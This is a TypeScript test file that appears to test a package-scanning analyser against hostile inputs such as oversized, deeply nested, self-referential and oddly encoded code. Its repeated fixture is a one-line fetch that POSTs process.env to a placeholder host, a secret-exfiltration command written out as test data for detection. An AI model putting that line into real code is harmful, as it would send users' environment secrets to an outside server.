import { describe, expect, it } from "vitest";
import { fileTreeOf } from "../../model/file-tree.ts";
import { parseManifest } from "../../model/manifest.ts";
import { createSources } from "../parse/parse.ts";
import { lens, type LensReport } from "./lens.ts";

const MANIFEST = parseManifest({ name: "example", version: "1.0.0" });
const REACHES = `fetch("https://a.invalid");`;

function look(content: string | Uint8Array, name = "index.js"): LensReport {
  const tree = fileTreeOf([[name, content]]);
  return lens({ ...MANIFEST, main: name }, tree, createSources(tree));
}

function idsOf(content: string | Uint8Array, name?: string): readonly string[] {
  return look(content, name).findings.map(({ id }) => id.replace(/^.*\//, ""));
}

/** Longer than any of these takes, even where several tests share the machine. */
const PATIENCE_MS = 15_000;

describe("Lens on hostile input", { timeout: PATIENCE_MS }, () => {
  const stolen = `fetch("https://a.invalid", { method: "POST", body: JSON.stringify(process.env) });`;

  it("says that a file of 20 MB in one line was not followed", () => {
    const { unread } = look(`${stolen}x("${"a".repeat(20 * 1024 * 1024)}");`);
    expect(unread).toEqual(["index.js is too large to be followed"]);
  });

  it("finds what stands beside a million elements", () => {
    const ids = idsOf(`const list = [${"1,".repeat(1_000_000)}2]; ${stolen}`);
    expect(ids).toEqual(["sends-environment"]);
  });

  it("finds what stands beside a list of texts that is added up", () => {
    const sum = Array.from({ length: 2_000 }, (_, index) => `"a${String(index)}"`).join("+");
    expect(idsOf(`const text = ${sum}; ${stolen} require(text);`)).toEqual(["sends-environment"]);
  });

  it.each([
    ["brackets", `${"[".repeat(100_000)}${"]".repeat(100_000)}`],
    ["calls", `${"f(".repeat(100_000)}${")".repeat(100_000)}`],
    ["functions", `${"(()=>".repeat(100_000)}1${")".repeat(100_000)}`],
  ])("says that 100,000 nested %s were not followed", (_what, code) => {
    expect(look(`${REACHES}${code}`).unread).toEqual([
      "index.js: the code nests too deep to be parsed",
    ]);
  });

  it("ends on values that lead round in circles", () => {
    const code = `
      let a = b, b = c, c = a; function f(x) { return f(g(x)); } function g(x) { return f(x) + a; }
      const o = { ...o, p: o.p }; class K { m() { this.m = this.m(); return this.m; } }
      require(f(a) + g(b) + o.p.q.r); ${stolen}`;
    expect(idsOf(code)).toContain("sends-environment");
  });

  it.each([
    ["a list", `const list = [1]; list.push(list); eval(list.map(String).join("")); `],
    ["a proxy", `let p = {}; p = new Proxy(p, p); require(p.a.b); `],
    ["a first value", `var x = x || {}; x = x.y; require(x.z); `],
    ["a helper's list", `function d(n) { l.push(n); return l[0]; } const l = [l]; require(d(l)); `],
  ])("follows a file to its end in which %s holds itself", (_what, code) => {
    const { findings, unread } = look(code + stolen);
    expect([findings.map(({ id }) => id), unread]).toEqual([
      ["source-is-suspicious/sends-environment"],
      [],
    ]);
  });

  it("ends on a decoder that never does", () => {
    const code = `function d(n) { let s = ""; while (true) { s += n; if (s.length > 1e9) return s; } } require(d("x"));`;
    expect(look(code).findings).toEqual([]);
  });

  it("says that code of no dialect was not followed", () => {
    expect(look(`${REACHES} const = ) ;;; {`).unread).toEqual([
      "index.js: the code is in no dialect that can be parsed",
    ]);
  });

  it.each([
    [
      "bytes that are no text",
      "index.js",
      Buffer.concat([Buffer.from([0xff, 0xfe, 0x00]), Buffer.from(`/*\u00e9*/`)]),
    ],
    ["nothing", "index.js", ""],
    ["a lone surrogate escape", "index.js", `fetch("\\ud800");`],
  ])("survives %s", (_what, name, content) => {
    expect(idsOf(content, name)).toEqual([]);
  });

  it.each([
    ["a hashbang", "cli", `#!/usr/bin/env node\n${stolen}`],
    ["a byte-order mark", "index.js", `\ufeff${stolen}`],
    ["JSX", "index.jsx", `const a = <p title={1}>{${stolen.replace(";", "")}}</p>;`],
    [
      "TypeScript",
      "index.ts",
      `enum E { A } namespace N { export const x: E = E.A; } ${stolen} export = N;`,
    ],
    ["decorators", "index.ts", `@d class A { @e() m(@f x: string) { ${stolen} } } new A().m("");`],
    [
      "CommonJS and ESM in one file",
      "index.js",
      `import x from "x"; const y = require("y"); ${stolen} module.exports = x; export { y };`,
    ],
    [
      "invalid UTF-8 in a comment",
      "index.js",
      Buffer.concat([Buffer.from("/*"), Buffer.from([0xff, 0xc0]), Buffer.from(`*/${stolen}`)]),
    ],
  ])("reads %s", (_what, name, content) => {
    expect(idsOf(content, name)).toEqual(["sends-environment"]);
  });
});
